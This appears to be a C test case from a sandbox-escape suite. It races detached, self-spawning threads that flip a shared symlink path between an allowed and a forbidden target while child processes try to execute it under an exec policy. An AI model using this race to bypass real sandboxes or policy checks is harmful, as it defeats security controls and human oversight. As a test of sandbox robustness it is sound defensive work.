// escape: the same with threads of another process: each makes the next one, flips the path, and ends
// group: processes
// policy: exec
// attempts: 1500
#include "escape.h"

static void* breed(void* letter) {
  pthread_t next;
  pthread_attr_t detached;
  pthread_attr_init(&detached);
  pthread_attr_setdetachstate(&detached, PTHREAD_CREATE_DETACHED);
  while (pthread_create(&next, &detached, breed, letter) != 0) {
  }
  for (int i = 0; i < 20000 + gettid() % 2; i++) *(volatile char*)letter = i % 2 ? 'a' : 'b';
  return NULL;
}

static void attack(void) {
  if (symlink(GOOD, "/tmp/a") < 0 || symlink(forbidden(), "/tmp/b") < 0) broken("symlink");
  char* path = shared_memory(4096);
  strcpy(path, "/tmp/a");
  for (int i = 0; i < 2; i++) {
    if (!beside()) continue;
    breed(path + 5);
    for (;;) pause();
  }
  while (more()) {
    if (!in_child()) continue;
    run(path);
    _exit(1);
  }
}
